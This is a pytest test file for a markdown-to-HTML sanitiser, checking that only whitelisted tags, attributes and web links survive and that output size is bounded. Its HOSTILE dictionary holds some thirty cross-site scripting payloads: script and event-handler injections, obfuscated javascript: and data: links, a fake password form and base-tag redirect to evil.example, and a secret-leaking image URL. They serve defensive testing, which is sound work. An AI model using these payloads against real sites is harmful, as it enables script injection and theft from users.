"""Markdown of a result, as HTML: whatever it holds, only what can be read comes out."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from chassis.text import DECEIVING
from chassis.ui.json_view import pretty
from chassis.ui.markdown import ATTRIBUTES, LIMIT, TAGS, is_safe_address, to_html
from tests.injection.corpus import OBJECTS, Attack, each_text
from tests.with_each import with_each

GIVEN_TO_LINKS = {"target", "rel"}

HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in a block": "<div>\n\n<script src=https://evil.example/x.js></script>\n\n</div>",
    "a handler": "<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>",
    "a handler in a link": '[x](https://good.example/" onmouseover="alert(1))',
    "a handler in a title": "[x](https://good.example/ '\" onmouseover=alert(1) x=\"')",
    "a handler in an image's words": '![x" onerror="alert(1)](https://evil.example/x.png)',
    "svg": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><animate onbegin=alert(1)></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "a style": "<style>body{background:url(https://evil.example/)}</style><p style='position:fixed'>x",
    "a form": "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "a base": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "a template": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
    "javascript": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "javascript in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript by entities": "[x](&#x6A;avascript&#x3A;alert(1)) [x](javascript&colon;alert(1))",
    "javascript with a tab": "[x](java&Tab;script:alert(1)) [x](<java\tscript:alert(1)>) [x](java&NewLine;script:x)",
    "javascript with a control": "[x](\x01javascript:alert(1)) [x](&#1;javascript:alert(1))",
    "javascript by percent": "[x](javascript%3Aalert(1)) [x](%6Aavascript:alert(1))",
    "javascript by reference": "[x]\n\n[x]: javascript:alert(1)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](data:image/png;base64,AAAA)",
    "vbscript and files": "[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:https://x.example/y)",
    "below this host": "[x](/auth/logout) [x](//evil.example/) [x](../clear) [x](?a=b) [x](#y)",
    "backslashes": "[x](https:\\\\evil.example/) [x](\\\\evil.example) [x](https:/\\evil.example/)",
    "another host in front": "[x](https://good.example@evil.example/) [x](https://good.example%40:x@evil.example/)",
    "an image": "![x](https://evil.example/?q=secret) ![x][y]\n\n[y]: https://evil.example/",
    "turned around": "\u202egnp.exe &#8238;gnp.exe &#x2066;x [\u202ex](https://evil.example/&#8238;x)",
    "controls": "\x00\x1b[31m\x07 &#27;[31m &#0;",
    "unseen letters": "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden") + " &#xE0041;",
    "a mutation": '<p title="</code><img src=x onerror=alert(1)>">` </code><script>alert(1)</script>`',
    "a comment": "<!-- --!> <script>alert(1)</script> --> <!-->",
    "a doctype": "<!DOCTYPE html><?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "a fence's language": '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
}


class Reader(HTMLParser):
    """What a browser would make of a text: its tags, their attributes, and the words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    unknown_decl = handle_decl
    handle_pi = handle_decl


def read(text: str) -> Reader:
    return Reader(str(to_html(text)))


def assert_only_readable(reader: Reader) -> None:
    assert not reader.others, "no comment, declaration or instruction comes out"
    for tag, attributes in reader.tags:
        assert tag in TAGS
        allowed = ATTRIBUTES.get(tag, set()) | (GIVEN_TO_LINKS if tag == "a" else set())
        # The note that a text was cut is this module's own.
        assert set(attributes) <= allowed or attributes == {"class": "cut"}, (tag, attributes)
        if tag == "a" and "href" in attributes:
            assert (attributes["href"] or "").lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow"
    assert not DECEIVING.search(reader.words)
    for _, attributes in reader.tags:
        assert not any(DECEIVING.search(value or "") for value in attributes.values())


class TestHostileTexts:
    @with_each("text", HOSTILE)
    def test_only_what_can_be_read_comes_out(self, text: str) -> None:
        assert_only_readable(read(text))

    @each_text
    def test_so_it_is_with_the_whole_corpus(self, attack: Attack) -> None:
        assert_only_readable(read(attack.text))

    @pytest.mark.parametrize(
        "wrap",
        ["> {}", "- {}", "| {} | b |\n|---|---|\n| {} | c |", "**{}**", "# {}", "[{}](https://x.example)"],
    )
    def test_so_it_is_inside_every_kind_of_block(self, wrap: str) -> None:
        for text in HOSTILE.values():
            assert_only_readable(read(wrap.replace("{}", text)))

    def test_markup_is_shown_as_the_text_that_it_is(self) -> None:
        assert "<script>alert(1)</script>" in read(HOSTILE["a script"]).words
        assert "onerror=alert(1)" in read(HOSTILE["a handler"]).words
        assert read("<b>x</b>").tags == [("p", {})]

    @pytest.mark.parametrize(
        "name",
        [
            name
            for name in HOSTILE
            if name.startswith(("javascript", "data", "vbscript", "below", "backslashes"))
        ],
    )
    def test_a_link_to_anything_but_a_web_address_is_text(self, name: str) -> None:
        assert not [tag for tag, _ in read(HOSTILE[name]).tags if tag == "a"]

    def test_an_image_is_told_and_not_loaded(self) -> None:
        reader = read("![a secret](https://evil.example/?q=1)")
        assert [tag for tag, _ in reader.tags] == ["p", "span"]
        assert reader.words.strip() == "[image: a secret] https://evil.example/?q=1"


class TestWhatAResultIsWrittenIn:
    def test_headings_lists_tables_and_code_are_kept(self) -> None:
        blocks = [
            "# Title",
            "1. a",
            "- b",
            "> c",
            "| x | y |\n|---|---|\n| 1 | 2 |",
            "```py\nz\n```",
            "~~e~~ **f** `g`",
        ]
        text = "\n\n".join(blocks)
        tags = {tag for tag, _ in read(text).tags}
        assert tags >= {
            "h1",
            "ol",
            "ul",
            "li",
            "blockquote",
            "table",
            "th",
            "td",
            "pre",
            "code",
            "s",
            "strong",
        }

    def test_a_link_says_where_it_leads_whatever_its_author_says(self) -> None:
        (link,) = [
            attributes
            for tag, attributes in read("[https://good.example](https://x.example/a 'good')").tags
            if tag == "a"
        ]
        assert link["href"] == link["title"] == "https://x.example/a"

    def test_a_mail_address_can_be_written_to(self) -> None:
        assert is_safe_address("mailto:a@b.example")
        assert not is_safe_address("mailto:" + "a" * 3_000)


class TestSize:
    def test_a_megabyte_is_cut_and_says_so(self) -> None:
        html = to_html("word " * 200_000)
        assert len(html) < LIMIT + 1_000
        assert f"{1_000_000 - LIMIT:,} more characters are not shown here." in html

    @with_each(
        "unit", ["[", "![", "*", "**a", "`", "> ", "- ", "|a", "<", "&", "[a](", "_a ", "\n", "[a]: x\n"]
    )
    def test_no_text_takes_long(self, unit: str) -> None:
        started = time.process_time()
        to_html(unit * LIMIT)
        assert time.process_time() - started < 8, "what is shown is bounded, so its parsing is"


class TestJson:
    def test_it_is_indented_in_its_own_order_with_signs(self) -> None:
        assert (
            pretty({"b": "\u202ex\x1b", "a": [1]}) == '{\n  "b": "\ufffdx\\u001b",\n  "a": [\n    1\n  ]\n}'
        )

    @pytest.mark.parametrize("value", OBJECTS.values(), ids=OBJECTS)
    def test_what_looks_like_an_object_of_airflows_stays_json(self, value: object) -> None:
        import json

        assert json.loads(pretty(value)) == value

    def test_it_is_cut_and_says_so(self) -> None:
        assert pretty("x" * 300, limit=100).endswith("\n[... 202 more characters ...]")
